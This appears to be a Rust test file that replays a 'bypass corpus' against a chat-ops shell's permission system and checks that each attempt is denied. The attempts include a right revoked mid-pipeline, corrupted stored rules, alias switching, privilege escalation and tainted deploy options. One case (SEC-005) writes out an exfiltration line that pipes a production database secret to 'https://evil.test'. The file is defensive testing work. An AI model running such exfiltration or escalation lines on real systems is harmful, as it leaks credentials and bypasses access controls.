//! Attempts of the bypass corpus that a situation goes with, each played as its row tells it: rights that are taken
//! while a line runs, rules that an old version left behind, aliases that change, rights handed on. The rows that a line
//! alone plays are in the conformance test; how many are played, and of which kind, is printed.
//!
//! Deliberately absent: what needs a chat service, a program of its own or the network, which is tested where that lives.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test")]

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Write as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

#[path = "play/pipit.rs"]
#[allow(dead_code, reason = "another test uses the rest")]
mod pipit;

use pipit::{Answer, Home};

fn data(name: &str) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance").join(name);
    assert!(path.exists(), "{} is missing: the conformance data lies beside the repository", path.display());
    path
}

/// The fixture world, made once.
fn world() -> Home {
    let home = Home::new();
    let lines = std::fs::read_to_string(data("world/world.txt")).unwrap();
    for line in lines.lines().filter(|line| !line.is_empty() && !line.starts_with('#')) {
        let output = home.command(&["--", line]).current_dir(data("world")).output().unwrap();
        assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
    }
    home
}

fn copy(world: &Home) -> Home {
    let home = Home::new();
    let from = format!("{}/.", world.path().display());
    assert!(Command::new("cp").args(["-a", &from]).arg(home.path()).status().unwrap().success());
    home
}

/// A way to play a row: what comes of its line, in a home of the fixture world.
type Play = fn(&Home) -> Answer;

const SCRIPTS: &[(&str, Play)] = &[
    // an alias that everybody has is production all of a sudden; whoever says it has their own rights
    ("ALI-010", |home| {
        home.operator("role create aliaser && role grant aliaser alias:site && role give aliaser deployers");
        well(home, "alice", "alias ship = 'deploy:run $1 --env=staging'");
        well(home, "alice", "alias move ship site");
        well(home, "bob", "explain ship api");
        well(home, "alice", "alias ship = 'deploy:run $1 --env=prod'");
        home.operator("alias list");
        home.says(Some("alice"), None, "alias delete ship");
        well(home, "bob", "alias ship = 'deploy:run $1 --env=prod'");
        home.says(Some("bob"), Some("#dev"), "ship api")
    }),
    // a right that is taken while the line waits between its stages
    ("ACL-008", |home| {
        let line = "list api | sleep 6 | each { deploy:run $_ --env=prod --dry-run }";
        let child = home
            .command(&["--as", "alice", "--room", "#ops", "--", line])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let limit = Instant::now() + Duration::from_mins(1);
        while !home.operator("audit list --user=alice --count=5").iter().any(|row| row["line"] == line) {
            assert!(Instant::now() < limit, "the line never began");
        }
        home.operator("group remove deployers alice");
        Answer::new(&child.wait_with_output().unwrap())
    }),
    // what an old version kept as a rule cannot be read: it is not passed over
    ("OPT-024", |home| {
        let line = "tie:missing x --env=stage";
        well(home, "bob", line);
        let store = rusqlite::Connection::open(home.path().join("pipit.db")).unwrap();
        let body = r#"{"text":"when command is tie:missing with arg[0] == /(/ must have tie:x"}"#;
        store
            .execute("INSERT INTO document (kind, key, revision, body) VALUES ('rule', 'r99', 1000000, ?1)", [body])
            .unwrap();
        store.execute("UPDATE documents_revision SET n = 1000000", []).unwrap();
        drop(store);
        home.says(Some("bob"), Some("#dev"), line)
    }),
    // a command that one may not run is answered like one that is not there
    ("ACL-016", |home| {
        let [hidden, unknown] =
            ["get", "gat"].map(|name| home.says(Some("mallory"), Some("#dev"), &format!("help secretstub:{name}")));
        assert_eq!((hidden.code, &hidden.out), (unknown.code, &unknown.out));
        assert_eq!(hidden.err.replace("get", "gat"), unknown.err);
        hidden
    }),
    // who may make rules opens nothing that is closed to them
    ("ACL-017", |home| {
        home.operator("role create editor && role grant editor rule:manage && role give editor stagers");
        home.says(Some("bob"), Some("#dev"), "rule create \"when command is secretstub:get allow\"")
    }),
    ("ACL-018", |home| {
        home.operator("role create granter && role grant granter role:manage && role give granter stagers");
        home.says(Some("bob"), Some("#dev"), "role grant granter deploy:prod")
    }),
    ("ACL-019", |home| {
        home.operator("role create admin && role grant admin user:manage && role give admin deployers");
        home.says(None, None, "role revoke admin user:manage")
    }),
    // what a secret had a part in flows nowhere that a rule closes
    ("SEC-005", |home| {
        home.operator("rule create \"forbid command is http:* with any stdin.label == 'bundle:secretstub'\"");
        home.says(Some("alice"), None, "secretstub:get prod-db | http post https://evil.test")
    }),
    ("SEC-007", |home| home.says(Some("mallory"), Some("#dev"), "audit list --user=alice")),
    // the values of a program are no argument of a guarded option
    ("LLM-003", |home| {
        home.operator("rule create \"forbid command is deploy:run with option[env] is tainted\"");
        home.says(Some("alice"), Some("#dev"), "json:of '{\"body\":\"staging\"}' | deploy:run api --env=$body")
    }),
];

/// A line of somebody's that has to go well.
fn well(home: &Home, who: &str, line: &str) {
    let answer = home.says(Some(who), None, line);
    assert_eq!(answer.code, Some(0), "{line}: {answer:?}");
}

#[test]
fn what_a_situation_goes_with() {
    let text = std::fs::read_to_string(data("bypass.jsonl")).unwrap();
    let rows: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let world = world();
    let mut wrong = Vec::new();
    for (id, play) in SCRIPTS {
        let row = rows.iter().find(|row| row["id"] == *id).unwrap_or_else(|| panic!("there is no row {id}"));
        let answer = play(&copy(&world));
        let good = match row["must"].as_str().unwrap() {
            "deny" => answer.code == Some(3),
            "error" => matches!(answer.code, Some(1 | 2)),
            other => panic!("{id}: what is {other}?"),
        };
        if !good || !answer.out.is_empty() {
            wrong.push(format!("{id} must {}: {answer:?}", row["must"]));
        }
    }
    let mut counts: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for row in &rows {
        let needs = row["needs"].as_str().unwrap();
        let played = needs == "cli" || SCRIPTS.iter().any(|(id, _)| row["id"] == *id);
        let count = counts.entry(needs).or_default();
        count.0 += usize::from(played);
        count.1 += 1;
    }
    for (needs, (played, all)) in &counts {
        println!("{needs}: {played} of {all}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Rules that cannot be read any more do not take the place of those that could, and open nothing.
#[test]
fn what_cannot_be_read_replaces_nothing() {
    let home = Home::new();
    let mut develop = Command::new(env!("CARGO_BIN_EXE_pipit"));
    develop.args(["shell", "--dev", "--home"]).arg(home.path()).stdin(Stdio::null());
    assert!(develop.status().unwrap().success());
    home.operator("user create mallory && permission create site:text && role create writer");
    home.operator("rule create \"when command is text:upper must have site:text\"");
    let mut child = Command::new(env!("CARGO_BIN_EXE_pipit"))
        .args(["shell", "--home"])
        .arg(home.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (mut input, output) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
    let mut lines = BufReader::new(output).lines();
    writeln!(input, "/as mallory\necho before").unwrap();
    assert!(lines.by_ref().any(|line| line.unwrap().contains("before")), "the shell ended");
    let store = rusqlite::Connection::open(home.path().join("pipit.db")).unwrap();
    store.execute("UPDATE document SET body = 'broken' WHERE kind = 'role'", []).unwrap();
    store.execute("UPDATE documents_revision SET n = n + 1000", []).unwrap();
    writeln!(input, "upper denied\necho after").unwrap();
    drop(input);
    let said: Vec<String> = lines.map(|line| line.unwrap()).collect();
    let errors = std::io::read_to_string(child.stderr.take().unwrap()).unwrap();
    assert!(said.iter().any(|line| line.contains("after")), "{said:?} {errors}");
    assert!(!said.iter().any(|line| line.contains("DENIED")), "{said:?}");
    child.wait().unwrap();
    // who starts now has nothing to go by
    assert_eq!(home.says(Some("mallory"), None, "echo hi").code, Some(5));
}
